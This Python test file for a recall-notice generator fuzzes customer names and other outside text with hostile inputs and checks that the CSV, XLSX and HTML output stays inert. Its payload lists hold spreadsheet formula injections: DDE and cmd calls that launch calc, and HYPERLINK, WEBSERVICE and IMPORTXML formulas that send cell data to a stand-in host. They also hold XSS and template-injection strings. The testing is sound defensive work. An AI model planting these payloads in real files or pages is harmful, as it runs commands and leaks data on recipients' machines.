"""Names of customers, reasons and numbers that want to run: inert in every document of a recall."""

from __future__ import annotations

import csv
import io
import random
import re
from datetime import date, datetime
from decimal import Decimal
from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree
from zipfile import ZipFile
from zoneinfo import ZoneInfo

import pytest
from python_calamine import CalamineWorkbook

from reports.frame import ReportManifest
from reports.language import LOCALES
from reports.recall import RecallRequest, tables
from reports.recall.facts import RecallFacts
from reports.recall.line import lines_by_consignee
from reports.recall.marks import csv_of
from reports.recall.notice import notice_files
from reports.recall.pages import summary_page
from reports.recall.totals import consignee_totals, product_totals
from traceability.recall.records import (
    Consignee,
    Delivery,
    Ignorance,
    LotBalance,
    Onward,
    Scope,
    ScopeLot,
)
from traceability.recall.subject import Selection

AT = datetime(2026, 3, 2, 9, 30, tzinfo=ZoneInfo("Asia/Shanghai"))
BLANKS = ["", "\t", "\r", "\n", " ", "\u200b", "\ufeff", "\u00a0", "\0"]
STARTS = [blank + sign for blank in BLANKS for sign in "=+-@＝＋－＠"]
BODIES = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.invalid/?d="&A1,"click")',
    "1+1",
    "SUM(1+9)*cmd|' /C calc'!A0",
    'IMPORTXML("http://x.invalid","//a")',
    'WEBSERVICE("http://x.invalid")',
    'DDE("cmd";"/C calc";"x")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
]
AROUND = ["{}", "医院;{}", "医院,{}", "a\t{}", 'a"{}', "a'{}", "a\n{}", "a\r\n{}", "|{}", '","{}', "{};{}"]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title><svg onload=alert(1)>",
    "{{7*7}}",
    "{% x %}",
]
RUNS = tuple("=+-@＝＋－＠")


class Tags(HTMLParser):
    """Every tag and event handler of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.handlers: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.handlers += [name for name, _ in attrs if name.startswith("on")]
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]


def payload(chance: random.Random) -> str:
    """A text that some program would run, if it were taken for more than text."""
    if chance.random() < 0.2:
        return chance.choice(MARKUP) + chance.choice(STARTS) + chance.choice(BODIES)
    text = chance.choice(STARTS) + chance.choice(BODIES)
    around = chance.choice(AROUND)
    return around.format(*[text] * around.count("{}"))


def facts_with(text: str) -> RecallFacts:
    """A recall of one lot in which every text that comes from outside is the payload."""
    lot = ScopeLot(
        "A:P:L", "A", "sap_a:P", text, text, text, text, text, "finished", "produced", "C62",
        "09521234543213", "GS1", text, "III", date(2026, 1, 1), date(2028, 1, 1), 0, True,
    )  # fmt: skip
    delivery = Delivery(
        "A:P:L", "c1", "A", text, text, date(2026, 1, 9), Decimal(5), Decimal(5), Decimal(0), Decimal(5),
        Decimal(5), 0, "both",
    )  # fmt: skip
    balance = LotBalance("A:P:L", *[Decimal(0)] * 11, 0)
    consignee = Consignee("c1", text, text, "CN", text, (text,))
    gap = Ignorance("RECALL-X", text, text, text, text)
    moved = Onward("A:P:L", text, "lot", Decimal(5), "C62", 1, text, text, date(2026, 1, 10), None)
    scope = Scope(
        (lot,), (balance,), (), (delivery,), (), (moved,), (consignee,), (), (), (gap,), None, None
    )  # fmt: skip
    request = RecallRequest((), 1, f"x{text}", AT, AT, contact=text)
    manifest = ReportManifest("recall_package", "1", "000001", AT, "w", "ab", "cd", 1)
    return RecallFacts(
        manifest,
        request,
        Selection((), ("A:P:L",)),
        scope,
        (),
        lines_by_consignee(scope),
        product_totals(scope),
        consignee_totals(scope),
        (),
        None,
        (),
        {},
        0.0,
    )


def demand_inert_csv(data: bytes) -> None:
    """No cell begins a formula, whichever separator a program splits at and whether or not it trims."""
    text = data.decode("utf-8-sig")
    for separator in ",;\t|":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            for cell in row:
                bare = re.sub(r"^[\s\"\u200b\ufeff\u00a0\u0000]+", "", cell)
                assert not bare.startswith(RUNS), (separator, cell)


def demand_inert_xlsx(data: bytes, text: str) -> None:
    """No formula, link or number was made of a text, and the text is there."""
    with ZipFile(io.BytesIO(data)) as book:
        parts = {name: book.read(name) for name in book.namelist()}
    sheets = [ElementTree.fromstring(d) for n, d in parts.items() if n.startswith("xl/worksheets/sheet")]
    kinds = {element.tag.rpartition("}")[2] for sheet in sheets for element in sheet.iter()}
    assert not kinds & {"f", "hyperlink", "hyperlinks"}
    assert not any("externalLink" in name or "vba" in name.lower() for name in parts)
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    shown = {_seen(str(cell)) for row in rows for cell in row}
    assert _seen(text) in shown, text


def _seen(text: str) -> str:
    """A text as it survives XML: line ends are one, what XML cannot hold is a replacement character."""
    return (
        re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", text)
        .replace("\r\n", "\n")
        .replace("\r", "\n")
        .strip()
    )


def demand_inert_html(data: bytes) -> None:
    """Only our own tags, no handler, and links to GS1 alone."""
    page = Tags()
    page.feed(data.decode("utf-8", "replace"))
    assert not page.tags & {"script", "img", "svg", "iframe", "object", "embed", "form", "base"}
    assert page.handlers == []
    assert all(link.startswith("https://id.gs1.org/01/") for link in page.links)


@pytest.mark.storm
def test_hostile_texts_stay_texts(storm: Any) -> None:
    """Prevents a customer's name from starting a program on the desk of who opens a notice."""
    chance, count = storm.random(), storm.size(sample=60, full=1000)
    for _ in range(count):
        text = payload(chance)
        facts = facts_with(text)
        files = notice_files(facts, facts.consignees[0])
        listed = (tables.lots(facts), tables.deliveries(facts), tables.gaps(facts))
        for data in (files["notice.csv"], *(csv_of(sheet, facts.request) for sheet in listed)):
            demand_inert_csv(data)
        demand_inert_xlsx(files["notice.xlsx"], text)
        pages = [data for name, data in files.items() if name.endswith(".html")]
        for data in (*pages, *(summary_page(facts, locale, [text]) for locale in LOCALES)):
            demand_inert_html(data)
    storm.report("recall notices", payloads=count, ran=0)


def test_the_checks_see_what_runs() -> None:
    """Prevents a storm that would pass on documents full of formulas."""
    for cell in ("=1+1", "x;=1+1", "x\t@SUM(1)", "\u200b+1", "＝1"):
        with pytest.raises(AssertionError):
            demand_inert_csv(f'"a","{cell}"\r\n'.encode())
    for page in (b"<script>1</script>", b"<a href='javascript:1'>x</a>", b"<p onclick=1>x</p>"):
        with pytest.raises(AssertionError):
            demand_inert_html(page)
